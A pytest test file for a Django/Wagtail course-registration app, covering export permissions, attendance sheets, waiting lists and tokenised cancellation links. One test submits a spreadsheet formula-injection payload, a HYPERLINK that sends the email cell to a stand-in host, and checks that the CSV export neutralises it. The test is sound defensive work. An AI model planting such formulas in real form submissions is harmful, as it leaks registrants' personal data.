"""Who sees registrations: editors in the admin (report, export, attendance sheet), organisers
on the site; nobody else. The cancellation link works without login and only with its token."""

import csv
import io

import pytest
from django.core import mail
from django.urls import reverse
from openpyxl import load_workbook

from training.models import Registration
from training.registration import register
from training.tokens import SALT_CANCEL, registration_token

from .conftest import make_session

REPORT = "/admin/reports/inscriptions/"


@pytest.fixture
def registrations(session):
    return [
        register(
            session,
            name=name,
            email=f"{slug}@exemple.org",
            consent=True,
            structure="Les Jardins",
            accessibility_needs="Accès fauteuil",
        )
        for slug, name in [
            ("alix", "Alix Aubertin"),
            ("bastien", "Bastien Brochard"),
            ("chloe", "Chloé Collinet"),
            ("dorian", "Dorian Desforges"),
        ]
    ]


def test_editor_lists_registrations_of_a_session(editor_client, session, registrations):
    response = editor_client.get(f"{REPORT}?session={session.pk}")
    assert response.status_code == 200
    html = response.content.decode()
    for name in ["Alix Aubertin", "Dorian Desforges", "Sur liste d’attente", "Confirmée"]:
        assert name in html


def test_editor_exports_csv_and_xlsx(editor_client, session, registrations):
    response = editor_client.get(f"{REPORT}?session={session.pk}&export=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0][:3] == ["Session", "Nom", "Courriel"]
    assert len(rows) == 5
    assert {row[2] for row in rows[1:]} == {r.email for r in registrations}
    response = editor_client.get(f"{REPORT}?session={session.pk}&export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.max_row == 5


def test_csv_export_writes_a_public_registration_formula_as_text(
    editor_client, anonymous_client, session
):
    from tests.training.test_course_page import form_data

    formula = '=HYPERLINK("http://x.test/?"&C2;"ok")'
    data = form_data(session, name=formula, phone="+33 6 12 34 56 78")
    assert anonymous_client.post(session.course.url, data).status_code == 302
    response = editor_client.get(f"{REPORT}?session={session.pk}&export=csv")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    row = dict(zip(*list(csv.reader(io.StringIO(content))), strict=True))
    assert row["Nom"] == "'" + formula
    assert row["Téléphone"] == "'+33 6 12 34 56 78"
    assert row["Courriel"] == "alix@exemple.org"
    # XLSX keeps Wagtail's own protection: the text as it is, stored as text.
    response = editor_client.get(f"{REPORT}?session={session.pk}&export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.cell(row=2, column=2).value == formula
    assert sheet.cell(row=2, column=2).data_type == "s"


@pytest.mark.parametrize("role", ["anonymous", "member", "committee"])
def test_others_get_no_registrations_in_the_admin(role, role_clients, session, registrations):
    client = role_clients[role]
    sheet = reverse("training_attendance_sheet", args=[session.pk])
    for url in [REPORT, f"{REPORT}?export=csv", sheet]:
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert b"Alix Aubertin" not in response.content


def test_attendance_sheet_has_one_page_per_day(editor_client, course, registrations):
    session = make_session(course, day_count=3, capacity=5)
    register(session, name="Elsa Estival", email="elsa@exemple.org", consent=True)
    html = editor_client.get(
        reverse("training_attendance_sheet", args=[session.pk])
    ).content.decode()
    assert html.count('<section class="day">') == 3
    assert "jour 3 sur 3" in html
    assert html.count("Elsa Estival") == 3


def test_editor_cancels_on_someone_s_behalf_and_the_first_waiting_gets_the_seat(
    editor_client, registrations, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(
            reverse("training_cancel_registration", args=[registrations[0].pk]), follow=True
        )
    assert response.status_code == 200
    registrations[3].refresh_from_db()
    assert registrations[3].status == "confirmed"
    assert any(m.to == ["dorian@exemple.org"] for m in mail.outbox)


def test_cancellation_link_needs_no_login_and_a_valid_token(
    anonymous_client, registrations, django_capture_on_commit_callbacks
):
    first = registrations[0]
    url = reverse("training:cancel", args=[registration_token(first, SALT_CANCEL)])
    page = anonymous_client.get(url)
    assert page.status_code == 200
    assert "Annuler mon inscription" in page.content.decode()
    first.refresh_from_db()
    assert first.status == "confirmed"  # a GET (a mail scanner) cancels nothing
    with django_capture_on_commit_callbacks(execute=True):
        response = anonymous_client.post(url, follow=True)
    assert response.content.decode().count("Votre inscription est annulée.") == 1  # said once
    first.refresh_from_db()
    assert first.status == "cancelled"
    assert Registration.objects.get(email="dorian@exemple.org").status == "confirmed"
    forged = url.replace(url.rstrip("/").rsplit("-", 1)[1], "0" * 64)
    assert anonymous_client.get(forged).status_code == 404


def test_organisers_see_their_course_registrations_on_the_site(
    tree, course, session, registrations, member_user, member_client, anonymous_client
):
    from tests.factories import build_governance

    gov = build_governance(tree)
    organiser = gov.members[0]
    url = course.url + "inscrits/"
    assert member_client.get(url).status_code == 403  # not an organiser (yet)
    assert anonymous_client.get(url).status_code == 302
    organiser.user = member_user
    organiser.save_revision().publish()
    course.organisers.add(organiser)
    course.save_revision().publish()
    response = member_client.get(url)
    assert response.status_code == 200
    assert "Alix Aubertin" in response.content.decode()


def test_an_editor_previews_a_revision_of_a_course_with_organisers(tree, course, editor_client):
    """A revision's preview reads the organisers from the revision (modelcluster's in-memory
    queryset, without `.live()`): it used to answer 500."""
    from tests.factories import build_governance

    gov = build_governance(tree)
    course.organisers.add(gov.members[0])
    revision = course.save_revision()
    revision.publish()
    url = reverse("wagtailadmin_pages:revisions_view", args=[course.pk, revision.pk])
    response = editor_client.get(url)
    assert response.status_code == 200
    assert gov.members[0].title in response.content.decode()
